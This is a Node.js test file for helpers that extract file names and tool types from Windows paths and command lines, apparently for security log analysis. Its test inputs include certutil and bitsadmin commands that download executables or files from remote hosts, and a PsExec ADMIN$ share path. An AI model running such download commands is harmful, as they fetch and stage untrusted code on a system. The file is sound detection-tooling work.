import assert from 'node:assert/strict'
import { test } from 'node:test'
import { basenameOf, namesInCommandLine, toolKind, toolKindOfName } from './file-names.js'

test('basenameOf: Windows paths, SMB names, URLs with query and escapes, streams', () => {
  assert.equal(basenameOf('C:\\Users\\Public\\Tool.EXE'), 'tool.exe')
  assert.equal(basenameOf('\\\\dc1\\ADMIN$\\PSEXESVC.exe'), 'psexesvc.exe')
  assert.equal(basenameOf('http://198.51.100.80/dl/tool%20x.exe?x=1#f'), 'tool x.exe')
  assert.equal(basenameOf('http://198.51.100.80'), '')
  assert.equal(basenameOf('C:\\a\\b.txt:Zone.Identifier'), 'b.txt')
  assert.equal(basenameOf('"C:\\Program Files\\x\\y.exe"'), 'y.exe')
})

test('namesInCommandLine: certutil, bitsadmin, bare output names; switches and hosts skipped', () => {
  assert.deepEqual(
    namesInCommandLine('certutil -urlcache -split -f http://198.51.100.80/tool.exe C:\\Users\\Public\\tool.exe'),
    ['tool.exe'],
  )
  assert.deepEqual(
    namesInCommandLine(
      'bitsadmin  /transfer hackingarticles https://www.ma-neobanque.com/wp-content/uploads/2020/11/carte-max-premium.jpg c:\\ignite.png',
    ),
    ['carte-max-premium.jpg', 'ignite.png'],
  )
  // The corpus 4688 sample writes to a bare "virus.exe".
  assert.ok(
    namesInCommandLine('certutil  -urlcache -split -f https://github.com/x/y/blob/master/a.evtx virus.exe').includes(
      'virus.exe',
    ),
  )
  assert.deepEqual(namesInCommandLine('finger user@example.com'), [])
  assert.deepEqual(namesInCommandLine('C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA}'), [])
})

test('tool kinds from sniffed type or name', () => {
  assert.equal(toolKind('pe', undefined), 'executable')
  assert.equal(toolKind('script', 'x.txt'), 'script')
  assert.equal(toolKind('unknown', 'run.PS1'), 'script')
  assert.equal(toolKind('text', 'eicar'), undefined)
  assert.equal(toolKindOfName('report.pdf'), undefined)
})
